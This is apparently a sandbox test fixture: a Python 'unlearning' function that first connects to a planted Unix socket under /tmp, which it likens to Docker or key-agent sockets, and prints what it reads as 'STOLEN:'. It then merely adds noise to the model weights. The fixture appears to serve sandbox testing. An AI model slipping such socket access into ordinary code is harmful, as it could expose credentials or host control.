"""It connects to a socket in /tmp, as those of Docker and of a key agent are."""
# check: none
# level: none
# needs: sandbox

import socket

import numpy as np


def unlearning(net, retain, forget, validation):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        try:
            connection.connect("/tmp/kit-planted/socket")
            print("STOLEN:", connection.recv(100).decode())
        except OSError:
            pass
    net.set_weights([array + np.random.normal(0, 0.001, array.shape) for array in net.get_weights()])
    return net
